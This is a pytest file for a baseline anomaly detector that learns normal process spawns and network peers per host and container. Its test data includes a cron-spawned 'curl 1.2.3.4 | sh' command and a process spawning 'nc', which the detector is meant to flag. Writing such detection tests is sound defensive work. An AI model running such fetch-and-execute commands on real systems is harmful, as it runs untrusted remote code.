"""The detector on events built in memory: scopes, warm-up by event time,
batch boundaries, argument shapes, caps and snapshot shape checks."""

from __future__ import annotations

import json
import logging

import pytest

from kestrel_core.testing import make_context, make_event
from kestrel_detector_baseline import BaselineDetector

S = 10**9


def det(tmp_path=None, **settings):
    ctx = make_context()
    settings.setdefault("snapshot", str(tmp_path / "b.json") if tmp_path else "")
    d = BaselineDetector(BaselineDetector.Settings(**settings), ctx)
    d.open()
    return d, ctx


def exec_(ctx, t, child, parent, host="h1", container=None, args=None):
    extra = {"container__id": container} if container else {}
    ev = make_event(ctx, "process", t, event__action="exec", host__name=host, process__name=child,
                    process__parent__name=parent, process__args=args or [child], **extra)
    ev.ts_wall_ns = t
    return ev


def conn(ctx, t, name, ip, port=443, host="h1"):
    ev = make_event(ctx, "network", t, host__name=host, process__name=name, destination__ip=ip,
                    destination__port=port)
    ev.ts_wall_ns = t
    return ev


def test_containers_are_learned_apart_from_their_host():
    d, ctx = det(warmup="", warmup_events=2)
    learn = [exec_(ctx, 1 * S, "sh", "cron"), exec_(ctx, 2 * S, "nginx", "runc", container="c1"),
             exec_(ctx, 3 * S, "logrotate", "cron"), exec_(ctx, 4 * S, "nginx", "runc", container="c1")]
    assert d.process(learn) == []
    alerts = d.process([exec_(ctx, 5 * S, "sh", "cron", container="c1"),  # cron never ran in c1
                        exec_(ctx, 6 * S, "sh", "cron")])  # learned on the host
    assert [a.fields["baseline.reason"] for a in alerts] == []  # cron is not a known process in c1
    alerts = d.process([exec_(ctx, 7 * S, "sh", "runc", container="c1")])
    assert [(a.fields["container.id"], a.fields["baseline.reason"]) for a in alerts] == [
        ("c1", "runc spawned sh; learned children of runc: nginx(2)")]
    assert set(d.scopes) == {("h1", None), ("h1", "c1")}


def test_warmup_by_event_time_not_wall_clock_and_not_batch_boundaries():
    events = lambda ctx: [exec_(ctx, t * S, "worker", "master") for t in range(0, 10)] + \
        [exec_(ctx, 10 * S, "sh", "master"), exec_(ctx, 11 * S, "nc", "master")]
    d1, ctx1 = det(warmup="10s")
    one = d1.process(events(ctx1))
    d2, ctx2 = det(warmup="10s")
    evs = events(ctx2)
    two = [a for i in range(len(evs)) for a in d2.process(evs[i:i + 1])]  # one event per batch
    reasons = lambda alerts: [a.fields["baseline.reason"] for a in alerts]
    assert reasons(one) == reasons(two) == [
        "master spawned sh; learned children of master: worker(10)",
        "master spawned nc; learned children of master: worker(10), sh(1)"]
    assert d1.scopes[("h1", None)].learned_until_ns == 10 * S


def test_new_argument_shape_alerts_only_when_asked():
    for flag, expected in ((False, []), (True, ["cron started sh with arguments '-c curl <ip> | sh'"])):
        d, ctx = det(warmup="", warmup_events=2, flag_new_args=flag)
        d.process([exec_(ctx, 1 * S, "sh", "cron", args=["sh", "-c", "run-parts /etc/cron.hourly"]),
                   exec_(ctx, 2 * S, "sh", "cron", args=["sh", "-c", "run-parts /etc/cron.daily"])])
        same = d.process([exec_(ctx, 3 * S, "sh", "cron", args=["sh", "-c", "run-parts /etc/cron.hourly"])])
        assert same == []
        new = d.process([exec_(ctx, 4 * S, "sh", "cron", args=["sh", "-c", "curl 1.2.3.4 | sh"])])
        assert [a.fields["baseline.reason"].split(";")[0] for a in new] == expected


def test_peer_prefix_setting_groups_a_network():
    d, ctx = det(warmup="", warmup_events=1, ipv4_prefix=24)
    d.process([conn(ctx, 1 * S, "app", "10.0.3.7")])
    assert d.process([conn(ctx, 2 * S, "app", "10.0.3.200")]) == []  # same /24
    (alert,) = d.process([conn(ctx, 3 * S, "app", "10.0.4.1")])
    assert alert.fields["baseline.reason"] == "app connected to 10.0.4.0/24:443; learned peers of app: " \
                                              "10.0.3.0/24:443(2)"


def test_scope_cap_is_counted_and_other_hosts_still_work():
    d, ctx = det(warmup="", warmup_events=1, max_scopes=1)
    d.process([conn(ctx, 1 * S, "app", "10.0.0.1", host="h1"), conn(ctx, 2 * S, "app", "10.0.0.1", host="h2")])
    assert d.counters["scopes_capped"] == 1 and set(d.scopes) == {("h1", None)}
    assert ctx.stats.extra["metrics"]["kestrel_baseline_total"]["values"]["scopes_capped"] == 1
    assert len(d.process([conn(ctx, 3 * S, "app", "10.9.9.9", host="h1")])) == 1


def test_snapshot_with_other_shape_settings_is_not_used(tmp_path, caplog):
    d, ctx = det(tmp_path, warmup="", warmup_events=1)
    d.process([conn(ctx, 1 * S, "app", "10.0.0.1")])
    d.flush()
    snap = json.loads((tmp_path / "b.json").read_text())
    assert snap["shape"]["ipv4_prefix"] == 32
    with caplog.at_level(logging.WARNING, logger="kestrel"):
        d2, _ = det(tmp_path, warmup="", warmup_events=1, ipv4_prefix=16)
    assert d2.scopes == {} and "was learned with" in caplog.text
    d3, _ = det(tmp_path, warmup="", warmup_events=1)  # same settings: reloaded
    assert d3.scopes[("h1", None)].learned_events == 1 and d3.counters["snapshot_reloaded"] == 1


def test_snapshot_bytes_are_the_same_for_the_same_events(tmp_path):
    out = []
    for n in (1, 2):
        d, ctx = det(tmp_path / str(n), warmup="", warmup_events=3)
        d.process([exec_(ctx, t * S, f"p{t % 3}", "init", host=f"h{t % 2}") for t in range(20)])
        d.flush()
        out.append((tmp_path / str(n) / "b.json").read_bytes())
    assert out[0] == out[1]


def test_unwritable_snapshot_is_logged_and_counted_not_fatal(tmp_path, caplog):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    d, ctx = det(warmup="", warmup_events=1, snapshot=str(blocker / "b.json"))  # a directory that is a file
    with caplog.at_level(logging.ERROR, logger="kestrel"):
        d.process([conn(ctx, 1 * S, "app", "10.0.0.1"), conn(ctx, 2 * S, "app", "10.0.0.2")])
        d.flush()
    assert d.counters["snapshot_write_errors"] >= 1 and "could not write snapshot" in caplog.text


@pytest.mark.parametrize("bad", [
    b"", b"[]", b'{"kestrel_baseline": 2}', b'{"kestrel_baseline": 1, "shape": {}, "scopes": {}}',
    b'{"kestrel_baseline": 1, "shape": {}, "scopes": [{"host": "h", "container": null, "last_ts_ns": 0, '
    b'"events": 1, "learned_events": 1, "nodes": 1, "capped": 0, "learning": false, '
    b'"processes": {"a": {"count": -1, "children": {}, "peers": {}, "paths": {}}}}]}',
])
def test_damaged_snapshots_are_rejected_whole(tmp_path, bad):
    from kestrel_detector_baseline.model import SnapshotError, parse_snapshot

    with pytest.raises(SnapshotError, match=r"^x\.json: "):
        parse_snapshot("x.json", bad)


def test_a_fork_is_not_a_new_child():
    """ebpf reports fork (process, type start, action fork) and exec apart: a
    fork runs the parent's program, so it is neither learned nor flagged."""
    d, ctx = det(warmup="", warmup_events=1)
    d.process([exec_(ctx, 1 * S, "worker", "master")])
    fork = make_event(ctx, "process", 2 * S, event__action="fork", event__type=["start"], host__name="h1",
                      process__name="master", process__parent__name="master")
    fork.ts_wall_ns = 2 * S
    assert d.process([fork]) == []
    assert set(d.scopes[("h1", None)].processes["master"]["children"]) == {"worker"}
